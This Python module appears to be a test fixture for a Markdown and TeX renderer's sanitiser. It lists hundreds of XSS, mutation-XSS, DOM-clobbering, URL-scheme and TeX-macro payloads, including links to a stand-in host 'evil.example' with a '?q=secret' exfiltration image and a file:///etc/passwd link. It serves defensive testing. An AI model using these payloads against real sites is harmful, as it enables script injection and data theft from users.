"""Hostile texts: what people have tried, and what they would try on us. Our own writing.

Each payload sets `window.caught`, opens a dialog, asks another host, or breaks out of its
place on the page, if it gets through.
"""

from itertools import product

HOST = "evil.example"
_CATCH = "window.caught=1"
_EVENTS = (
    "onerror onload onfocus onmouseover ontoggle onbegin onanimationstart onpointerenter"
)
_TAGS = (
    "img svg iframe object embed video audio input details marquee body style math form "
    "button select textarea keygen isindex base link meta frame applet a table portal "
    "dialog template slot noscript"
).split()

_MARKUP = [
    *(
        f"<{tag} src=x href=x {event}={_CATCH} autofocus open>"
        for tag, event in product(_TAGS[:12], _EVENTS.split())
    ),
    *(f"<{tag} src=//{HOST}/{tag} href=//{HOST}/{tag} data=//{HOST}/d>" for tag in _TAGS),
    f"<script>{_CATCH}</script>",
    f"<ScRiPt src=//{HOST}/s.js></sCrIpT>",
    f"<script\n>{_CATCH}</script\t>",
    f"</p></article></main><script>{_CATCH}</script>",
    f"--></textarea></title></style></noscript><img src=x onerror={_CATCH}>",
    f"<svg><script>{_CATCH}</script></svg>",
    f"<svg/onload={_CATCH}>",
    f"<svg><animate onbegin={_CATCH} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_CATCH}'><text x=1 y=20>x</text></a></svg>",
    f"<math><mi xlink:href='javascript:{_CATCH}'>x</mi></math>",
    f"<iframe srcdoc='<script>parent.{_CATCH[7:]}</script>'></iframe>",
    f"<style>@import '//{HOST}/x.css';*{{background:url(//{HOST}/b)}}</style>",
    f"<link rel=stylesheet href=//{HOST}/x.css>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}/'>",
    f"<base href=//{HOST}/>",
    f"<form action=//{HOST}/><button>go</button></form>",
    f"<div style='position:fixed;inset:0;background:url(//{HOST}/)'>over all</div>",
    f"<img src='x' onerror\n=\n'{_CATCH}'>",
    f"<img/src/onerror={_CATCH}>",
    f"<img src=`x`onerror={_CATCH}>",
    f'"><img src=x onerror={_CATCH}>',
    f"'><img src=x onerror={_CATCH}>",
    f"`><img src=x onerror={_CATCH}>",
    f"&lt;img src=x onerror={_CATCH}&gt;",
    f"&#60;img src=x onerror={_CATCH}&#62;",
    f"%3Cimg src=x onerror={_CATCH}%3E",
    f"\\u003cimg src=x onerror={_CATCH}\\u003e",
    f"＜img src=x onerror={_CATCH}＞",
    f"{{{{constructor.constructor('{_CATCH}')()}}}}",
    f"{{% raw %}}{{{{ {_CATCH} }}}}{{% endraw %}}",
    f"${{{_CATCH}}}",
    f"<%={_CATCH}%>",
]

_SCHEMES = [
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "java\tscript:{}",
    "java&#10;script:{}",
    "&#106;avascript:{}",
    "&#x6A;avascript&colon;{}",
    "javascript&#58;{}",
    "\x01javascript:{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={}>",
    "blob:https://" + HOST + "/1",
    "file:///etc/passwd",
    "//" + HOST + "/",
    "/\\" + HOST + "/",
    "\\\\" + HOST + "\\x",
    "https:" + HOST,
    "view-source:javascript:{}",
    "feed:javascript:{}",
]
_LINKS = (
    "[a]({0})",
    "[a](<{0}>)",
    "![a]({0})",
    "<{0}>",
    '[a]({0} "title \\" onmouseover=window.caught=1")',
    "[a][r]\n\n[r]: {0}",
    "[![a]({0})]({0})",
)
_ADDRESSES = [
    link.format(scheme.format(_CATCH)) for link, scheme in product(_LINKS, _SCHEMES)
] + [
    f"![x](https://{HOST}/?q=secret)",
    f"![x](http://{HOST}/a.png) ![y](//{HOST}/b.png)",
    f'<https://{HOST}/"onmouseover={_CATCH}>',
    f"[a](https://{HOST}/'onclick={_CATCH})",
    f'[a](<https://{HOST}/>"onclick={_CATCH}>)',
]

_TEX = [
    rf"\href{{javascript:{_CATCH}}}{{x}}",
    rf"\href{{//{HOST}/}}{{x}}",
    rf"\url{{javascript:{_CATCH}}}",
    rf"\unicode[{_CATCH}]{{x3c}}",
    r"\unicode{x3Cscript}",
    r"\class{masthead skip}{x}",
    r"\cssId{content}{x}",
    r"\style{position:fixed;inset:0;background:red}{x}",
    rf"\style{{background:url(//{HOST}/)}}{{x}}",
    r"\data{x=1}{y}",
    r"\require{html}\href{javascript:1}{x}",
    r"\require{action}\toggle{a}{b}\endtoggle",
    r"\texttip{x}{<img src=x onerror=window.caught=1>}",
    r"\mathtip{x}{y}",
    r"\tooltip{x}{y}",
    rf"\includegraphics{{//{HOST}/a.png}}",
    rf"\input{{//{HOST}/a}}",
    rf"\image{{//{HOST}/a.png}}",
    rf"\textcolor{{url(//{HOST}/c)}}{{x}}",
    r"\textcolor{red;position:fixed}{x}",
    r"\color{expression(window.caught=1)}x",
    r"\colorbox{javascript:1}{x}",
    r"\definecolor{x}{HTML}{<script>}",
    r"\mmlToken{mi}[href='javascript:window.caught=1']{x}",
    r"\mmlToken{mglyph}[src='//evil.example/a']{}",
    r"\mmlToken{maction}[actiontype='statusline#http://x']{x}",
    r"\text{<img src=x onerror=window.caught=1>}",
    r"\text{</span></p><script>window.caught=1</script>}",
    r"\mbox{$<svg onload=window.caught=1>$}",
    r"\html{<b>x</b>}",
    r"<img src=x onerror=window.caught=1>",
    r"a<b onmouseover=window.caught=1>c",
    r"x</span><script>window.caught=1</script>",
    r"x</math><img src=x onerror=window.caught=1>",
    r"x\rlap{\kern-9999em y}",
    r"\rule{9999em}{9999em}",
    r"\rule[-9999em]{1em}{1em}",
    r"\hspace{9999em}x",
    r"\hspace{-9999em}x",
    r"\kern 9999em x",
    r"\vspace{9999em}x",
    r"\raise 9999em x",
    r"\lower 9999em x",
    r"\moveleft 9999em x",
    r"\\[9999em] x",
    r"\begin{array}{c}x\\[9999em]y\end{array}",
    r"\begin{array}{@{\hspace{9999em}}c}x\end{array}",
    r"\phantom{\rule{9999em}{9999em}}",
    r"\mathchoice{\rule{9999em}{9999em}}{a}{b}{c}",
    r"\Huge\Huge\Huge\Huge\Huge x",
    r"\def\x{\x\x}\x",
    r"\def\a{aa}\def\b{\a\a\a\a\a\a\a\a}\def\c{\b\b\b\b\b\b\b\b}\c\c\c\c\c\c\c\c",
    r"\newcommand{\frac}{pwned}\frac12",
    r"\renewcommand{\alpha}{\href{javascript:1}{x}}\alpha",
    r"\let\frac\undefined \frac12",
    r"\newenvironment{x}{\begin{x}}{\end{x}}\begin{x}\end{x}",
    r"\catcode`\<=13",
    r"\csname href\endcsname{javascript:1}{x}",
    r"\label{content}\ref{content}\eqref{content}",
    r"\tag{<img src=x onerror=window.caught=1>}x",
    r"\unknown{\href{javascript:1}{x}}",
    r"{" * 200 + "x" + r"}" * 200,
    r"\sqrt" * 200 + "x",
    "x^" * 300 + "x",
    "\\frac{1}{" * 120 + "x" + "}" * 120,
    r"\left(" * 120 + "x" + r"\right)" * 120,
    r"\begin{matrix}" * 40 + "x" + r"\end{matrix}" * 40,
    "&" * 500,
    "\\" * 501,
    "%" * 100,
    "#1 #2 #",
    "\u202e\u2066x\u2069",
    "x\u0000y",
]

_CLOBBERING = [
    f'<{tag} {attribute}="{name}">'
    for tag, attribute, name in product(
        ("a", "img", "form", "input"),
        ("id", "name"),
        ("content", "MathJax", "trustedTypes", "documentElement", "body", "attributes"),
    )
] + [
    "[content]: #content\n\n# content",
    '<form id=content><input name=parentNode><input name="childNodes"></form>',
    "- [x] <input name=nodeName>",
]

_MUTATION = [
    f"<noscript><p title='</noscript><img src=x onerror={_CATCH}>'>",
    f"<svg></p><style><a id='</style><img src=x onerror={_CATCH}>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_CATCH}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_CATCH}>",
    f"<svg><desc><noscript><a title='</noscript><img src=x onerror={_CATCH}>'>",
    f"<math><annotation-xml encoding='text/html'><style><img onerror={_CATCH} src=x>",
    f"<template><style></template><img src=x onerror={_CATCH}></style>",
    f"<select><template><style><!--</style><a id='--><img src=x onerror={_CATCH}>'>",
    f"<!--><img src=x onerror={_CATCH}>-->",
    f"<!-- --!><img src=x onerror={_CATCH}> -->",
    f"<![CDATA[<img src=x onerror={_CATCH}>]]>",
    f"<?xml ><img src=x onerror={_CATCH}>?>",
    f"<xmp><p title='</xmp><img src=x onerror={_CATCH}>'></xmp>",
    f"<textarea><img title='</textarea><img src=x onerror={_CATCH}>'>",
    f"<table><td background=//{HOST}/b><svg><td><style><img src=x onerror={_CATCH}>",
]

_FORGED = [
    f"q{'abcdefghijklmnopabcdefgh'}0z",
    *(f"q{letter * 24}{number}z" for letter in "ap" for number in (0, 1, 17)),
    "@@0@@ <!--math0--> MATH0 %%MATH0%% \ue000\ue0000\ue001 ￼",
    '<span class="tex notranslate">\\href{javascript:1}{x}</span>',
    '<span class="tex" data-tex="x" translate="no">\\rule{999em}{999em}</span>',
    "<mjx-container><mjx-math style='position:fixed'></mjx-math></mjx-container>",
    "\\(x\\) `\\(` $`x`$ ```math\n</pre><script>window.caught=1</script>\n```",
]

MARKUP = [*_MARKUP, *_CLOBBERING, *_MUTATION, *_FORGED]
"""What would be elements."""

ADDRESSES = _ADDRESSES
"""Markdown links and pictures to where nobody should be led."""

TEX = _TEX
"""What formulas should not do."""

PAYLOADS = [*MARKUP, *ADDRESSES, *TEX]

CONTEXTS = {
    "a paragraph": "{0}",
    "between words": "before {0} after",
    "a heading": "## {0}",
    "a list": "- one\n- {0}\n  - {0}",
    "a quotation": "> {0}\n> {0}",
    "a table": "| a | b |\n|---|---|\n| {0} | x |\n",
    "emphasis": "**{0}** and *{0}*",
    "a code block": "```{0}\n{0}\n```\n\n`{0}`",
    "a link": "[{0}](https://example.org '{0}')",
    "a formula": "${0}$\n\n$$\n{0}\n$$",
    "another formula": "\\({0}\\) beside $x$ and \\[{0}\\]",
}
"""Where in a document a payload stands."""
